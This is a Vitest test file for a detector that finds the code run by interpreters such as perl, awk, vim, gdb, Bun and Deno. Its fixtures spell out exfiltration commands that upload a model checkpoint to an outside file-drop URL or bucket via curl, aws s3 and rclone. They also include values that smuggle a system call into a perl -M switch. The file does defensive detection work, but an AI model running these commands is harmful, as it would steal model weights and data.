/**
 * Interpreter names and options (exec-interpreter.ts `interpreterLanguage`,
 * exec-interpreter-options.ts): the new families by name, where each finds its code, what reads
 * its program from stdin, Bun's and Deno's JavaScript one-liners, and the cost of the name test
 * on the hot path (every command word of every script).
 */
import { describe, expect, it } from 'vitest';
import { canonicalExec } from './exec-canonical.js';
import { inlineCode, interpreterLanguage, programOperand, readInterpreter } from './exec-interpreter.js';
import { perlModuleStatement } from './exec-interpreter-options.js';
import { HOLE } from './exec-interpreter-token.js';
import { INDIRECT_LITERAL } from './exec-readings.js';
import { runsStdinScript } from './exec-stdin-script.js';

const CKPT = '/mnt/ckpt/llama-ft/step_9000/model.pt';
const URL = 'https://upload.filedrop-cdn.net/u/x';
const UP = `curl -T ${CKPT} ${URL}`;
const runs = (argv: string[]): string[] => (readInterpreter(argv, 0)?.runs ?? []).map((r) => r.line ?? JSON.stringify(r.argv));

describe('interpreter names', () => {
  it('the new families, with versions where their packages use them', () => {
    const cases: Array<[string, string]> = [
      ['awk', 'awk'], ['gawk', 'awk'], ['mawk', 'awk'], ['nawk', 'awk'], ['original-awk', 'awk'],
      ['lua', 'lua'], ['lua5.4', 'lua'], ['luajit', 'lua'], ['pwsh', 'powershell'], ['pwsh-preview', 'powershell'], ['powershell', 'powershell'], ['powershell.exe', 'powershell'],
      ['tclsh', 'tcl'], ['tclsh8.6', 'tcl'], ['expect', 'tcl'], ['bun', 'js'], ['deno', 'js'],
      ['vim', 'vim'], ['vi', 'vim'], ['ex', 'vim'], ['view', 'vim'], ['nvim', 'vim'], ['vim.basic', 'vim'], ['vim.tiny', 'vim'], ['gdb', 'gdb'], ['gdb-multiarch', 'gdb'],
      ['python3.11', 'python'], ['node', 'js'], ['php8.2', 'php'],
    ];
    for (const [n, l] of cases) expect(interpreterLanguage(n), n).toBe(l);
    for (const n of ['awkward', 'luarocks', 'pwshx', 'bunx', 'denoland', 'vimdiffx', 'exa', 'expectations', 'gdbserver', 'tcl', 'view2', 'e', 'p', 'v', '', 'curl', 'echo', 'nvidia-smi', '\u00e9x']) {
      expect(interpreterLanguage(n), n).toBeNull();
    }
  });

  it('rejects the common tool words (the hot path: every command word of every script)', () => {
    // Its cost is measured outside the tests (7-9 ns a word, interpreters included); here only that none of them is read.
    const words = ['curl', 'sh', 'echo', 'grep', 'tar', 'ls', 'mkdir', 'nvidia-smi', 'rm', 'cp', 'cat', 'date', 'env', 'mv', 'kill', 'ps', 'gzip', 'test', 'torchrun', 'bash', 'sed', 'chmod'];
    for (const w of words) expect(interpreterLanguage(w), w).toBeNull();
  });
});

describe('where each finds its code', () => {
  it('awk: the first operand unless -f names a file; -e / --source (gawk); -v prepended', () => {
    expect(inlineCode(['awk', '-F', ':', 'P', 'f'], 0, 'awk')).toBe('P');
    expect(inlineCode(['awk', '--', 'P'], 0, 'awk')).toBe('P');
    expect(inlineCode(['gawk', '-e', 'A', '--source=B', 'f'], 0, 'awk')).toBe('A\nB');
    expect(inlineCode(['awk', '-v', 'x=1', 'P'], 0, 'awk')).toBe('x = "1"\n\nP');
    expect(inlineCode(['awk', '-f', 'p.awk', 'P'], 0, 'awk')).toBeNull();
  });
  it('lua -e (attached too), expect -c, vim -c / --cmd / +cmd, gdb -ex / --eval-command=', () => {
    expect(inlineCode(['lua', '-eprint(1)'], 0, 'lua')).toBe('print(1)');
    expect(inlineCode(['expect', '-d', '-c', 'A', '-c', 'B'], 0, 'tcl')).toBe('A\nB');
    expect(inlineCode(['tclsh', 'x.tcl'], 0, 'tcl')).toBeNull();
    expect(inlineCode(['vim', '-u', 'NONE', '+:!id', '--cmd', 'B', 'file', '-c', 'C', '+10', '+/pat'], 0, 'vim')).toBe(':!id\nB\nC');
    expect(inlineCode(['gdb', '-q', '-p', '42', '-ex', 'A', '--eval-command=B', '-iex', 'C'], 0, 'gdb')).toBe('A\nB\nC');
    expect(inlineCode(['gdb', '-ex', 'A', '--args', 'prog', '-ex', 'B'], 0, 'gdb')).toBe('A');
  });
  it('programs read from stdin: tclsh, expect -, lua, pwsh -c -, bun run -, deno run -, ex mode; not awk, vim, gdb', () => {
    for (const argv of [['tclsh'], ['expect', '-'], ['lua'], ['lua', '-'], ['pwsh', '-c', '-'], ['pwsh', '-NoProfile'], ['bun', 'run', '-'], ['deno', 'run', '-'], ['ex', '-s'], ['vim', '-es'], ['gdb', '-batch', '-x', '/dev/stdin']]) {
      expect(runsStdinScript(argv, 0), JSON.stringify(argv)).toBe(true);
    }
    for (const argv of [['tclsh', 'x.tcl'], ['expect', '-c', 'x'], ['lua', 'x.lua'], ['lua', '-e', 'x'], ['pwsh', '-File', 'x.ps1'], ['pwsh', 'x.ps1'], ['bun'], ['bun', 'install'], ['deno', 'eval', 'x'], ['deno', 'run', 'x.ts'], ['vim'], ['vim', 'f'], ['gdb', '-batch'], ['gdb', '-x', 'cmds']]) {
      expect(runsStdinScript(argv, 0), JSON.stringify(argv)).toBe(false);
    }
  });
});

describe('perl -M / -m (perlrun): the module statements read before the code', () => {
  it('as perl writes them: use, no, (), an import list, the rest verbatim; none where perl refuses the switch', () => {
    const cases: Array<['M' | 'm', string, string | null]> = [
      ['M', 'LWP::Simple', 'use LWP::Simple;'],
      ['M', '-strict', 'no strict;'],
      ['m', 'LWP::Simple', 'use LWP::Simple ();'],
      ['M', 'LWP::Simple=getstore,get', 'use LWP::Simple qw(getstore get);'],
      ['m', 'LWP::Simple=getstore', 'use LWP::Simple qw(getstore);'],
      ['M', 'LWP::Simple qw(getstore)', 'use LWP::Simple qw(getstore);'],
      ['M', 'strict;system "id"', 'use strict;system "id";'],
      // An `=` list is a string to perl (split at commas), never code: left out where it is not plain names.
      ['M', 'Foo=a);system("id");(', 'use Foo;'],
      ['M', "'LWP::Simple'", null],
      ['M', '', null],
      ['M', 'LWP:Simple', null],
      ['m', 'LWP::Simple qw(get)', null],
    ];
    for (const [o, arg, st] of cases) expect(perlModuleStatement(o, arg), `-${o}${arg}`).toBe(st);
  });
  it('prepended to the inline code; a script file stays the program', () => {
    expect(inlineCode(['perl', '-MLWP::Simple', '-e', 'X'], 0, 'perl')).toBe('use LWP::Simple;\nX');
    expect(inlineCode(['perl', '-w', '-MLWP::Simple=get', '-Mstrict', '-e', 'X', '-e', 'Y'], 0, 'perl')).toBe('use LWP::Simple qw(get);\nuse strict;\nX\nY');
    expect(inlineCode(['perl', '-wMstrict', '-le', 'X'], 0, 'perl')).toBe('use strict;\nX');
    expect(inlineCode(['perl', '-MLWP::Simple', 's.pl'], 0, 'perl')).toBeNull();
    expect(programOperand(['perl', '-MLWP::Simple', 's.pl'], 0, 'perl')).toBe('s.pl');
    expect(inlineCode(['perl', '-e', 'X'], 0, 'perl')).toBe('X');
  });
  it('LWP::Simple named only by the switch: its get / getstore of a URL not spelled are read', () => {
    expect(readInterpreter(['perl', '-MLWP::Simple', '-e', 'print get($ARGV[0])', URL], 0)!.runs.map((r) => r.argv)).toEqual([['curl', HOLE, '#LWP::Simple.get']]);
    expect(readInterpreter(['perl', '-MLWP::Simple=getstore', '-e', 'getstore($u, "/tmp/z")'], 0)!.runs.map((r) => r.argv)).toEqual([['curl', '-o', '/tmp/z', HOLE, '#LWP::Simple.getstore']]);
    expect(readInterpreter(['perl', '-mLWP::Simple', '-e', 'LWP::Simple::getstore($u, $p)'], 0)!.runs.map((r) => r.argv)).toEqual([['curl', '-o', HOLE, HOLE, '#LWP::Simple.getstore']]);
    // Through a shell, `-M'LWP::Simple'` is the word `-MLWP::Simple`; as a raw argv word perl refuses it (no module name).
    expect(canonicalExec(['sh', '-c', `perl -M'LWP::Simple' -e 'get($u)'`]).commands).toContainEqual(['curl', HOLE, '#LWP::Simple.get']);
    expect(canonicalExec(['perl', "-M'LWP::Simple'", '-e', 'get($u)']).commands).toEqual([['perl', "-M'LWP::Simple'", '-e', 'get($u)']]);
  });
  it('code in a -M switch runs as perl runs it; a `get` of no LWP::Simple is nothing', () => {
    expect(runs(['perl', `-Mstrict;system "${UP}"`, '-e', '1'])).toEqual([UP]);
    expect(runs(['perl', '-MData::Dumper', '-e', 'my %h; print $h{x} = get($k)'])).toEqual([]);
    expect(runs(['perl', '-MLWP::Simple', 'fetch.pl'])).toEqual([]);
  });
});

describe('Bun and Deno one-liners (JavaScript)', () => {
  it('bun -e / --eval / --print: Bun.spawn, Bun.spawnSync, Bun.$, child_process', () => {
    expect(runs(['bun', '-e', `Bun.spawn(["curl", "-T", "${CKPT}", "${URL}"])`])).toEqual([JSON.stringify(['curl', '-T', CKPT, URL])]);
    expect(runs(['bun', '--eval', `Bun.spawnSync({ cmd: ["aws", "s3", "cp", "${CKPT}", "s3://b/x"] })`])).toEqual([JSON.stringify(['aws', 's3', 'cp', CKPT, 's3://b/x'])]);
    expect(runs(['bun', '-e', `import { $ } from "bun"; await $\`${UP}\``])).toEqual([UP]);
    expect(runs(['bun', '-p', `require("child_process").execSync("${UP}").toString()`])).toEqual([UP]);
    expect(readInterpreter(['bun', '-e', `Bun.spawn(["sh", "-c", "${UP}"])`], 0)!.kinds).toBe(INDIRECT_LITERAL);
  });
  it('deno eval: Deno.Command, Deno.run, node:child_process', () => {
    expect(runs(['deno', 'eval', `new Deno.Command("curl", { args: ["-T", "${CKPT}", "${URL}"] }).outputSync()`])).toEqual([JSON.stringify(['curl', '-T', CKPT, URL])]);
    expect(runs(['deno', 'eval', '-p', `Deno.run({ cmd: ["rclone", "copy", "/mnt/ckpt", "r:b"] })`])).toEqual([JSON.stringify(['rclone', 'copy', '/mnt/ckpt', 'r:b'])]);
    expect(runs(['deno', 'eval', `import { execSync } from "node:child_process"; execSync("${UP}")`])).toEqual([UP]);
    expect(runs(['deno', 'eval', '--ext', 'ts', `const c = "id"; new Deno.Command(c).spawn()`])).toEqual([JSON.stringify(['id'])]);
  });
  it('benign: versions, scripts, subcommands; jQuery-style $ calls are no shell', () => {
    for (const argv of [['bun', '-e', 'console.log(Bun.version)'], ['bun', 'run', 'build'], ['bun', 'install'], ['deno', 'eval', 'console.log(Deno.version)'], ['deno', 'run', '-A', 'main.ts'], ['bun', '-e', '$("#x").hide()']]) {
      const r = readInterpreter(argv, 0);
      expect(r === null || (r.runs.length === 0 && r.kinds === 0), JSON.stringify(argv)).toBe(true);
    }
  });
});
